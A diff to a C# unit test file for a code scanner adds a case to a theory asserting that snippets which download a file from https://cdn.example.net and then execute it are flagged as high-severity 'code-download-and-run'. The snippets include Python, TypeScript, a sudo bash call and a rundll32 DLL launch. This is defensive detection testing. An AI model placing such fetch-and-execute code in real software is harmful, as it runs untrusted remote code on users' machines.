@@ -14,6 +14,7 @@ public sealed class PackageProgramTests
     [InlineData("a.py", "import subprocess, sys, requests\nopen('next.py', 'w').write(requests.get('https://cdn.example.net/n').text)\nsubprocess.Popen([sys.executable, 'next.py'])\n")]
     [InlineData("a.ts", "import axios from 'axios';\nimport * as fs from 'fs';\nimport { spawn } from 'child_process';\nconst answer = await axios.get('https://cdn.example.net/n');\nfs.writeFileSync('./next.js', answer.data);\nspawn('node', ['next.js']);\n")]
     [InlineData("a.py", "import os, urllib.request\nurllib.request.urlretrieve('https://cdn.example.net/n', '/tmp/n')\nos.system('cd /tmp && sudo bash /tmp/n')\n")]
+    [InlineData("a.js", "const https = require('https');\nconst fs = require('fs');\nconst { exec } = require('child_process');\nhttps.get('https://cdn.example.net/t', answer => {\n  const to = fs.createWriteStream('next.dll');\n  answer.pipe(to);\n  to.on('finish', () => exec('rundll32.exe next.dll,Start'));\n});\n")]
     public void What_was_fetched_and_written_is_started(string file, string text) => CodeScan.Finds(file, text, "code-download-and-run", Severity.High);
 
     [Theory]
